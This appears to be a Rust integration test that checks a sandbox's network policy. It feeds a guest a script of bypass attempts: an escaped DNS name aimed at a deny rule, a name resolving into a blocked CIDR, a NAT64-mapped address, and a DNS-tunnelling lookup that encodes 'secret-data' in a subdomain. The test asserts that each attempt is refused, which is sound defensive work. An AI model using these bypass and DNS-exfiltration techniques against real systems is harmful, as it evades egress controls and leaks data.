//! Network-policy attacks from a real guest under QEMU, through the real ax-netstack
//! (issue #11 §3): an escaped name (`exampl\101.com`) against a deny rule, a name allowed by
//! a host rule that resolves into a denied CIDR, a name that resolves only to the NAT64 form
//! (64:ff9b::/96) of a blocked IPv4 address, and DNS tunnelling under `default = "deny"`.
//!
//! The host's resolver is a loopback DNS server in this test that records every question it
//! gets: `axctl` (and so the supervisor and ax-netstack it starts) runs in a private mount
//! namespace whose /etc/resolv.conf names it (and whose nsswitch.conf and hosts are minimal),
//! so what the netstack looks up on the host is exactly what that server saw.

use ax_tests::{ensure_image, require_qemu, skip, which, Env};
use std::collections::HashMap;
use std::net::{IpAddr, Ipv4Addr, UdpSocket};
use std::path::Path;
use std::process::{Command, Output, Stdio};
use std::sync::{Arc, Mutex};

/// A loopback DNS server (RFC 1035 over UDP) answering A/AAAA from a table, NXDOMAIN for
/// everything else; records each question's name (lower case, labels joined with dots).
struct DnsServer {
    addr: Ipv4Addr,
    asked: Arc<Mutex<Vec<String>>>,
}

impl DnsServer {
    fn start(table: HashMap<&'static str, Vec<IpAddr>>) -> DnsServer {
        // A loopback address of its own, so that no other DNS server on :53 is disturbed.
        let pid = std::process::id();
        let addr = Ipv4Addr::new(127, 53, (pid >> 8) as u8, (pid as u8).max(1));
        let sock = UdpSocket::bind((addr, 53)).expect("bind a loopback DNS server on :53 (root)");
        let asked = Arc::new(Mutex::new(Vec::new()));
        let rec = asked.clone();
        std::thread::spawn(move || {
            let mut buf = [0u8; 1500];
            while let Ok((n, from)) = sock.recv_from(&mut buf) {
                if let Some((name, resp)) = answer(&buf[..n], &table) {
                    rec.lock().unwrap().push(name);
                    let _ = sock.send_to(&resp, from);
                }
            }
        });
        DnsServer { addr, asked }
    }

    fn asked(&self) -> Vec<String> {
        self.asked.lock().unwrap().clone()
    }
}

/// The name asked and the response to one query message.
fn answer(q: &[u8], table: &HashMap<&'static str, Vec<IpAddr>>) -> Option<(String, Vec<u8>)> {
    let mut i = 12;
    let mut labels = Vec::new();
    while *q.get(i)? != 0 {
        let l = q[i] as usize;
        labels.push(String::from_utf8_lossy(q.get(i + 1..i + 1 + l)?).to_ascii_lowercase());
        i += 1 + l;
    }
    let qtype = u16::from_be_bytes([*q.get(i + 1)?, *q.get(i + 2)?]);
    let question = &q[12..i + 5];
    let name = labels.join(".");
    let addrs = table.get(name.as_str());
    let rrs: Vec<&IpAddr> = addrs
        .into_iter()
        .flatten()
        .filter(|a| (qtype == 1 && a.is_ipv4()) || (qtype == 28 && a.is_ipv6()))
        .collect();
    let rcode: u8 = if addrs.is_some() { 0 } else { 3 };
    let mut m = vec![q[0], q[1], 0x81, 0x80 | rcode, 0, 1];
    m.extend_from_slice(&(rrs.len() as u16).to_be_bytes());
    m.extend_from_slice(&[0, 0, 0, 0]);
    m.extend_from_slice(question);
    for a in rrs {
        m.extend_from_slice(&[0xc0, 12]);
        let (ty, data) = match a {
            IpAddr::V4(v4) => (1u16, v4.octets().to_vec()),
            IpAddr::V6(v6) => (28, v6.octets().to_vec()),
        };
        m.extend_from_slice(&ty.to_be_bytes());
        m.extend_from_slice(&[0, 1, 0, 0, 0, 60]);
        m.extend_from_slice(&(data.len() as u16).to_be_bytes());
        m.extend_from_slice(&data);
    }
    Some((name, m))
}

/// Runs `axctl args…` in a private mount namespace whose resolver files point at `dns`.
fn run_with_resolver(env: &Env, dir: &Path, dns: &DnsServer, args: &[&str]) -> Output {
    let rc = dir.join("resolv.conf");
    std::fs::write(
        &rc,
        format!("nameserver {}\noptions timeout:2 attempts:1\n", dns.addr),
    )
    .unwrap();
    let nss = dir.join("nsswitch.conf");
    std::fs::write(&nss, "hosts: files dns\n").unwrap();
    let hosts = dir.join("hosts");
    std::fs::write(&hosts, "127.0.0.1 localhost\n::1 localhost\n").unwrap();
    let axctl = env.axctl();
    let mut c = Command::new("unshare");
    c.args(["--mount", "--propagation", "private", "sh", "-c"])
        .arg(
            "mount --bind \"$1\" /etc/resolv.conf && mount --bind \"$2\" /etc/nsswitch.conf \
             && mount --bind \"$3\" /etc/hosts && shift 3 && exec \"$@\"",
        )
        .arg("sh")
        .args([&rc, &nss, &hosts])
        .arg(axctl.get_program())
        .args(args)
        .stdin(Stdio::null());
    for (k, v) in axctl.get_envs() {
        if let Some(v) = v {
            c.env(k, v);
        }
    }
    if let Some(d) = axctl.get_current_dir() {
        c.current_dir(d);
    }
    c.output().expect("unshare")
}

const NET_CONFIG: &str = r#"
[policy]
default = "deny"
[[policy.rule]]
host = "example.com"
action = "deny"
[[policy.rule]]
host = "203.0.113.0/24"
action = "deny"
[[policy.rule]]
host = "*.com"
action = "allow"
[[policy.rule]]
host = "cidr.test"
action = "allow"
[[policy.rule]]
host = "nat64.test"
action = "allow"
"#;

/// The guest's attacks, each section ending in its exit codes.
const SCRIPT: &str = r#"
echo "== escape"
getent hosts 'exampl\\101.com'; echo "getent_rc=$?"
python3 - <<'PY'
import socket
name = "exampl" + chr(92) * 2 + "101.com"   # on the wire: the label exampl\101
try:
    print("gai", socket.getaddrinfo(name, 80, socket.AF_INET, socket.SOCK_STREAM)[0][4])
    socket.create_connection((name, 80), timeout=30)
    print("py_connected")
except Exception as e:
    print("py_failed", type(e).__name__, e)
PY
getent hosts example.com; echo "plain_rc=$?"
echo "== cidr"
curl -sS -m 30 http://cidr.test/ 2>&1; echo "cidr_rc=$?"
echo "== nat64"
curl -sS -m 30 http://nat64.test/ 2>&1; echo "nat64_rc=$?"
echo "== tunnel"
getent hosts c2VjcmV0LWRhdGE.tunnel.invalid; echo "tunnel_rc=$?"
echo "== end"
"#;

fn section<'a>(out: &'a str, name: &str) -> &'a str {
    let start = out
        .find(&format!("== {name}\n"))
        .unwrap_or_else(|| panic!("no section {name} in output:\n{out}"));
    let rest = &out[start + name.len() + 4..];
    &rest[..rest.find("\n== ").map_or(rest.len(), |i| i + 1)]
}

#[test]
fn guest_attacks_on_names_and_addresses_are_refused() {
    if !require_qemu() {
        return;
    }
    if which("unshare").is_none() {
        skip("attack_net", "unshare (util-linux) not installed");
        return;
    }
    ensure_image();
    let env = Env::new();
    let dir = tempfile::tempdir().unwrap();
    let dns = DnsServer::start(HashMap::from([
        ("example.com", vec!["198.51.100.7".parse().unwrap()]),
        ("cidr.test", vec!["203.0.113.5".parse().unwrap()]),
        ("nat64.test", vec!["64:ff9b::a9fe:a9fe".parse().unwrap()]),
    ]));
    let cfg = dir.path().join("net.toml");
    std::fs::write(&cfg, NET_CONFIG).unwrap();
    let o = run_with_resolver(
        &env,
        dir.path(),
        &dns,
        &[
            "run",
            "--name",
            "attack",
            "--no-repo",
            "--net-config",
            cfg.to_str().unwrap(),
            "--wait",
            "--prompt",
            SCRIPT,
        ],
    );
    let out = String::from_utf8_lossy(&o.stdout).into_owned();
    let log = ax_tests::read(&env.agent_dir("attack").join("netstack.log"));
    eprintln!(
        "==== guest output\n{out}\n==== netstack.log\n{log}\n==== host lookups\n{:?}",
        dns.asked()
    );
    if !o.status.success() {
        env.dump("attack");
    }
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let asked = dns.asked();

    // Allowed names are looked up on the host (the server is the netstack's resolver).
    assert!(asked.iter().any(|n| n == "cidr.test"), "{asked:?}");

    // The escaped name is refused by the DNS responder; the host never looks up the denied
    // name (neither through the escape nor as itself: it is denied on every port).
    let esc = section(&out, "escape");
    assert!(!esc.contains("getent_rc=0"), "escaped name resolved: {esc}");
    assert!(
        esc.contains("py_failed") && !esc.contains("py_connected"),
        "{esc}"
    );
    assert!(
        !asked
            .iter()
            .any(|n| n == "example.com" || n.contains("exampl")),
        "the denied name was looked up on the host: {asked:?}"
    );

    // CIDR and NAT64: refused at connect, by the rule and the blocked range.
    let audit = env.run(&["audit", "attack", "--json"]);
    assert!(
        audit.status.success(),
        "{}",
        String::from_utf8_lossy(&audit.stderr)
    );
    let audit: serde_json::Value = serde_json::from_slice(&audit.stdout).unwrap();
    let conns = audit["connections"].as_array().unwrap();
    let rows =
        |h: &str| -> Vec<&serde_json::Value> { conns.iter().filter(|c| c["host"] == h).collect() };
    for (host, why) in [
        ("cidr.test", "denied by policy rule 2"),
        ("nat64.test", "NAT64"),
    ] {
        let r = rows(host);
        assert!(!r.is_empty(), "no connection to {host} audited: {audit}");
        for c in r {
            assert_eq!(c["decision"], "deny", "{c}");
            assert!(c["reason"].as_str().unwrap_or("").contains(why), "{c}");
        }
    }
    assert!(!section(&out, "cidr").contains("cidr_rc=0"));
    assert!(!section(&out, "nat64").contains("nat64_rc=0"));
    assert!(
        !conns.iter().any(|c| c["decision"] != "deny"),
        "every connection is refused: {audit}"
    );

    // DNS tunnelling under default deny: the name reached no resolver on the host.
    assert!(
        !asked.iter().any(|n| n.contains("tunnel")),
        "a denied name left the host: {asked:?}"
    );
}
